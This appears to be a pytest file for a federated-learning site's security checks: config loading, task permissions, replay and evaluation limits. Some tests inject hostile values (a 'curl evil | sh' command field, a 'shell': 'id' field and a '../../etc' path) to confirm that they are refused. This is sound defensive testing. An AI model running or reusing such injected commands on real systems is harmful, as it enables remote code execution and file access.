import pytest

from fedsec.core.errors import ConfigError
from fedsec.engines.nvflare.plan import PlanRefused
from fedsec.engines.nvflare.site import TASKS, Site
from fedsec.engines.nvflare.site_config import (
    SecureAggregationConfig,
    SiteConfig,
    config_from_scenario,
    load_site_config,
    write_site_config,
)
from tests.engines.nvflare.site_requests import train_request

pytestmark = pytest.mark.usefixtures("site_files_read_once")


@pytest.fixture
def site(consortium):
    data, scenario = consortium
    return Site(config_from_scenario(scenario, "plant", data, False), data)


def test_site_config_round_trips_and_names_bad_fields(tmp_path, consortium):
    data, scenario = consortium
    config = config_from_scenario(scenario, "cloud", data)
    path = write_site_config(config, tmp_path / "fedsec_site.toml")
    assert load_site_config(path) == config
    path.write_text("whatever = 1\n" + path.read_text())
    with pytest.raises(ConfigError, match=r"fedsec_site.toml: invalid site config:\n  whatever"):
        load_site_config(path)
    with pytest.raises(ConfigError, match="not found"):
        load_site_config(tmp_path / "missing.toml")


def test_secure_aggregation_requirements_are_read_from_the_site_config(tmp_path, consortium):
    data, scenario = consortium
    config = config_from_scenario(scenario, "plant", data)
    own = SecureAggregationConfig(min_contributors=4, colluding_sites=1)
    path = write_site_config(
        config.model_copy(update={"secure_aggregation": own}), tmp_path / "s.toml"
    )
    assert "[secure_aggregation]\nmin_contributors = 4\ncolluding_sites = 1" in path.read_text()
    loaded = load_site_config(path)
    assert loaded.secure_aggregation == own
    assert Site(loaded, data).secure.config == own
    path.write_text(path.read_text().replace("min_contributors = 4", "min_contributors = 1"))
    with pytest.raises(ConfigError, match=r"secure_aggregation.min_contributors: Input should be"):
        load_site_config(path)


def test_partitioned_scenarios_cannot_become_site_configs(consortium):
    data, scenario = consortium
    other = scenario.model_copy(
        update={"partition": scenario.partition.model_copy(update={"rule": "iid"})}
    )
    with pytest.raises(ConfigError, match="needs each organization's own files"):
        config_from_scenario(other, "plant", data)


def test_site_reads_only_its_own_rows(site, consortium):
    data, scenario = consortium
    reply = site.handle("fedsec_statistics", {"view": "canonical"})
    from fedsec.scenarios.federation import build_federation

    plant = build_federation(scenario, data).orgs[0]
    assert plant.name == "plant"
    assert reply["rows"] == len(plant.train)
    assert sum(reply["label_counts"].values()) == len(plant.train)


def test_site_refuses_what_it_does_not_allow(consortium):
    data, scenario = consortium
    config = config_from_scenario(scenario, "plant", data)
    with pytest.raises(PlanRefused, match="belongs to 'cloud'"):
        Site(config, data, identity="cloud")
    limited = Site(config.model_copy(update={"allowed_tasks": ["train"]}), data)
    with pytest.raises(PlanRefused, match="does not allow statistics"):
        limited.handle("fedsec_statistics", {"view": "canonical"})
    with pytest.raises(PlanRefused, match="unknown task"):
        limited.handle("fedsec_shell", {})
    with pytest.raises(PlanRefused, match="statistics request refused: view"):
        Site(config, data).handle("fedsec_statistics", {"view": "../../etc"})


def test_site_config_defaults_are_conservative(consortium):
    config = SiteConfig(name="a", sources=[{"format": "flows", "paths": ["x.csv"]}])
    assert config.threads == 1 and not config.gate.enabled
    assert config.require_secure_aggregation  # also when the file does not say
    data, scenario = consortium
    assert config_from_scenario(scenario, "plant", data).require_secure_aggregation
    assert not config_from_scenario(scenario, "plant", data, False).require_secure_aggregation
    assert config.limits.max_local_steps == 1000


def test_class_weights_must_match_the_models_classes(site, consortium):
    request, classes = train_request(site, consortium)
    assert "params" in site.handle("fedsec_train", request)
    for length in (classes - 1, classes + 3):
        wrong = request | {"plan": request["plan"] | {"class_weights": [1.0] * length}}
        with pytest.raises(
            PlanRefused, match=f"class_weights has {length} entries for the model's"
        ):
            site.handle("fedsec_train", wrong)


def test_a_site_may_bound_the_learning_rate_lower(consortium):
    data, scenario = consortium
    config = config_from_scenario(scenario, "plant", data, False)
    strict = Site(
        config.model_copy(update={"limits": config.limits.model_copy(update={"max_lr": 0.01})}),
        data,
    )
    request, _ = train_request(strict, consortium)
    with pytest.raises(PlanRefused, match=r"training\.lr 0\.05 exceeds this site's limit 0\.01"):
        strict.handle("fedsec_train", request)


def test_every_task_a_job_may_send_has_one_handler(site):
    """The executor's task list and the site's handler table name the same tasks: no task
    reaches a method by its name."""
    assert set(site.handlers()) == set(TASKS)
    assert site.handlers()["fedsec_he_decrypt"] == site.decrypt_sum  # signs what it decrypted
    assert site.handlers()["fedsec_secagg_mask"] == site.secure.mask


def test_a_malformed_training_task_is_refused_naming_the_field(site, consortium):
    """Typed on receipt: a field the task does not have, one missing, or arrays of the wrong
    kind are refused before anything runs, whatever the coordinator sends."""
    request, _ = train_request(site, consortium)
    with pytest.raises(PlanRefused, match="training task refused: unexpected field 'command'"):
        site.handle("fedsec_train", request | {"command": "curl evil | sh"})
    missing = {k: v for k, v in request.items() if k != "params"}
    with pytest.raises(PlanRefused, match="training task refused: missing field 'params'"):
        site.handle("fedsec_train", missing)
    with pytest.raises(PlanRefused, match=r"training task \(params\) refused: expected a list"):
        site.handle("fedsec_train", request | {"params": ["not", "arrays"]})
    with pytest.raises(PlanRefused, match=r"control variate: expected \d+ parameter arrays"):
        site.handle("fedsec_train", request | {"control": request["params"][:1]})
    with pytest.raises(PlanRefused, match="evaluation refused: missing field 'target_fpr'"):
        site.handle("fedsec_evaluate", request)
    assert "params" in site.handle("fedsec_train", request)


def test_a_malformed_decryption_task_is_refused_naming_the_field(site):
    update = {"ciphertext": [b"\x01"], "signed": None}
    task = {
        "round": 1,
        "contributors": ["plant", "cloud"],
        "updates": {"plant": update, "cloud": update},
        "total": "0" * 64,
        "lists": {"plant": None, "cloud": None},
    }
    with pytest.raises(PlanRefused, match="decryption refused: unexpected field 'shell'"):
        site.handle("fedsec_he_decrypt", task | {"shell": "id"})
    with pytest.raises(PlanRefused, match="decryption refused: round '1' is not a round number"):
        site.handle("fedsec_he_decrypt", task | {"round": "1"})
    with pytest.raises(PlanRefused, match="contributors: names repeat"):
        site.handle("fedsec_he_decrypt", task | {"contributors": ["plant", "plant"]})
    with pytest.raises(PlanRefused, match="must be exactly the contributors'"):
        site.handle("fedsec_he_decrypt", task | {"updates": {"plant": update}})
    with pytest.raises(PlanRefused, match="total must be the sum's sha256"):
        site.handle("fedsec_he_decrypt", task | {"total": [b"\x01"]})
    with pytest.raises(PlanRefused, match="no encrypted update of round 1 here"):
        site.handle("fedsec_he_decrypt", task)


def test_a_site_trains_each_round_once_and_at_most_its_max_rounds(consortium):
    """limits.max_rounds bounded only the plan's own count: a coordinator replaying "round 1
    of 2" collected a new update each time (six from a site whose limit was 2)."""
    data, scenario = consortium
    config = config_from_scenario(scenario, "plant", data, False)
    limits = config.limits.model_copy(update={"max_rounds": 2})
    site = Site(config.model_copy(update={"limits": limits}), data)
    request, _ = train_request(site, consortium)
    for round_ in (1, 2):
        plan = request["plan"] | {"round": round_, "rounds": 2}
        assert "params" in site.handle("fedsec_train", request | {"plan": plan})
    for round_, refusal in ((2, "already answered round 2 of this job; round 2 comes too late"),
                            (1, "already answered round 2")):  # fmt: skip
        replay = request | {"plan": request["plan"] | {"round": round_, "rounds": 2}}
        with pytest.raises(PlanRefused, match=refusal):
            site.handle("fedsec_train", replay)
    assert site.last_round == 2


def test_a_site_evaluates_one_model_per_job(consortium):
    """Evaluation answered any model, any number of times: with crafted models its threshold
    read out quantiles of a chosen feature over the site's benign validation rows."""
    data, scenario = consortium
    site = Site(config_from_scenario(scenario, "plant", data, False), data)
    request, _ = train_request(site, consortium)
    evaluation = {k: request[k] for k in ("plan", "model", "params")} | {"target_fpr": 0.01}
    assert "validation" in site.handle("fedsec_evaluate", evaluation)
    with pytest.raises(PlanRefused, match="evaluates one model per job, and did"):
        site.handle("fedsec_evaluate", evaluation | {"target_fpr": 0.5})
